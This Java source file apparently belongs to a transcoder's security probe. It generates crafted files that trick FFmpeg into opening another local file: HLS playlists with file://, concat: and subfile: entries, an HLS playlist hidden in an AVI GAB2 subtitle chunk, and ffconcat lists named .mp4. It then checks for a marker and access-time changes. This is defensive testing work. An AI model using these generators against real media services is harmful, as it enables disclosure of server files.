package io.reel.transcode.probe;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.BasicFileAttributeView;
import java.nio.file.attribute.FileTime;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Builds "reference" inputs: files that are not media themselves but make an FFmpeg demuxer open ANOTHER
 * file (the classic HLS-playlist-in-an-AVI local file disclosure and its relatives).
 *
 * <p>Every trick points at {@code target}, which the caller makes either a real MPEG-TS carrying
 * {@link #MARKER} (to see whether its bytes come back) or a FIFO (to see whether anyone opens it at all).
 */
public final class HostileFiles {

    /** In the secret's H.264 packets (a user-data SEI, see {@link TestMedia}), nowhere in the trick files themselves. */
    public static final String MARKER = "REEL-SECRET-MARKER-93f1c2";

    private HostileFiles() {
    }

    /** name -> file, all created in {@code dir}, all referencing {@code target} (which must be in dir). */
    public static Map<String, Path> create(Path dir, Path target) throws IOException {
        String abs = target.toAbsolutePath().toString();
        String playlist = """
                #EXTM3U
                #EXT-X-VERSION:3
                #EXT-X-TARGETDURATION:1
                #EXT-X-MEDIA-SEQUENCE:0
                #EXTINF:1.0,
                file://%s
                #EXT-X-ENDLIST
                """.formatted(abs);
        // later variants: hide the local path behind other protocols
        String playlistProtocols = """
                #EXTM3U
                #EXT-X-TARGETDURATION:1
                #EXT-X-MEDIA-SEQUENCE:0
                #EXTINF:1.0,
                concat:%1$s|%1$s
                #EXTINF:1.0,
                subfile,,start,0,end,0,,:%1$s
                #EXT-X-ENDLIST
                """.formatted(abs);
        String ffconcatRelative = "ffconcat version 1.0\nfile " + target.getFileName() + "\n";
        String ffconcatAbsolute = "ffconcat version 1.0\nfile " + abs + "\n";

        Map<String, Path> files = new LinkedHashMap<>();
        files.put("hls playlist named .m3u8", write(dir, "trick.m3u8", playlist.getBytes(StandardCharsets.US_ASCII)));
        files.put("hls playlist named .mp4", write(dir, "trick_hls.mp4", playlist.getBytes(StandardCharsets.US_ASCII)));
        files.put("hls playlist in AVI GAB2 (.avi)", write(dir, "trick_gab2.avi", gab2Avi(playlist.getBytes(StandardCharsets.US_ASCII))));
        files.put("hls playlist in AVI GAB2 (.mp4)", write(dir, "trick_gab2.mp4", gab2Avi(playlist.getBytes(StandardCharsets.US_ASCII))));
        files.put("hls concat:/subfile: (.m3u8)", write(dir, "trick_protocols.m3u8", playlistProtocols.getBytes(StandardCharsets.US_ASCII)));
        files.put("ffconcat relative (.mp4)", write(dir, "trick_ffconcat.mp4", ffconcatRelative.getBytes(StandardCharsets.US_ASCII)));
        files.put("ffconcat absolute (.mp4)", write(dir, "trick_ffconcat_abs.mp4", ffconcatAbsolute.getBytes(StandardCharsets.US_ASCII)));
        // control: same GAB2 layout with an SRT payload -> proves FFmpeg parses our GAB2 chunk at all
        files.put("control: SRT in AVI GAB2", write(dir, "control_gab2_srt.avi",
                gab2Avi("1\n00:00:00,000 --> 00:00:01,000\nhello\n\n".getBytes(StandardCharsets.US_ASCII))));
        return files;
    }

    /** Copies the marker TS into dir as secret.ts and sets its access time far in the past. */
    public static Path secretFile(Path dir, Path template) throws IOException {
        Path secret = dir.resolve("secret.ts");
        Files.copy(template, secret, StandardCopyOption.REPLACE_EXISTING);
        resetAtime(secret);
        return secret;
    }

    /**
     * Sets atime to 2001. With the usual "relatime" mount option the kernel updates atime on the next read
     * because it is then older than mtime/ctime, so any read of the file becomes visible.
     */
    public static void resetAtime(Path p) throws IOException {
        Files.getFileAttributeView(p, BasicFileAttributeView.class)
                .setTimes(null, FileTime.from(Instant.parse("2001-01-01T00:00:00Z")), null);
    }

    public static Instant atime(Path p) throws IOException {
        return ((FileTime) Files.getAttribute(p, "lastAccessTime")).toInstant();
    }

    /**
     * Minimal AVI: one text stream ("txts") whose single chunk is a GAB2 subtitle container holding
     * {@code payload}. FFmpeg's AVI demuxer probes the GAB2 payload to pick a subtitle demuxer; before the
     * 2017 fix any demuxer could be picked there - including HLS, which then opened the playlist's URLs.
     */
    static byte[] gab2Avi(byte[] payload) {
        byte[] desc = "English\0".getBytes(StandardCharsets.UTF_16LE);
        ByteBuffer gab2 = le(5 + 2 + 4 + desc.length + 2 + 4 + payload.length);
        gab2.put("GAB2".getBytes(StandardCharsets.US_ASCII)).put((byte) 0)
                .putShort((short) 2)                 // version, must be 2
                .putInt(desc.length).put(desc)       // stream name, UTF-16LE
                .putShort((short) 4)                 // type (ignored by FFmpeg)
                .putInt(payload.length).put(payload);

        byte[] movi = list("movi", chunk("00tx", gab2.array()));

        ByteBuffer avih = le(56);
        avih.putInt(1_000_000).putInt(0).putInt(0).putInt(0) // usec/frame, max bytes/s, padding, flags (no index)
                .putInt(1).putInt(0).putInt(1).putInt(0)     // total frames, initial frames, streams, buffer size
                .putInt(0).putInt(0);                         // width, height (+ 4 reserved dwords = zero)
        ByteBuffer strh = le(56);
        strh.put("txts".getBytes(StandardCharsets.US_ASCII)).putInt(0) // type, handler
                .putInt(0).putShort((short) 0).putShort((short) 0)    // flags, priority, language
                .putInt(0).putInt(1).putInt(1).putInt(0)              // initial frames, scale, rate, start
                .putInt(1).putInt(0).putInt(0).putInt(0);             // length, buffer size, quality, sample size
        byte[] strl = list("strl", concat(chunk("strh", strh.array()), chunk("strf", new byte[0])));
        byte[] hdrl = list("hdrl", concat(chunk("avih", avih.array()), strl));

        byte[] body = concat("AVI ".getBytes(StandardCharsets.US_ASCII), hdrl, movi);
        return concat("RIFF".getBytes(StandardCharsets.US_ASCII), le(4).putInt(body.length).array(), body);
    }

    private static byte[] list(String type, byte[] content) {
        return chunk("LIST", concat(type.getBytes(StandardCharsets.US_ASCII), content));
    }

    private static byte[] chunk(String id, byte[] data) {
        int padded = data.length + (data.length & 1);
        ByteBuffer b = le(8 + padded);
        b.put(id.getBytes(StandardCharsets.US_ASCII)).putInt(data.length).put(data);
        return b.array();
    }

    private static byte[] concat(byte[]... parts) {
        int n = 0;
        for (byte[] p : parts) n += p.length;
        ByteBuffer b = ByteBuffer.allocate(n);
        for (byte[] p : parts) b.put(p);
        return b.array();
    }

    private static ByteBuffer le(int size) {
        return ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
    }

    private static Path write(Path dir, String name, byte[] bytes) throws IOException {
        return Files.write(dir.resolve(name), bytes);
    }
}
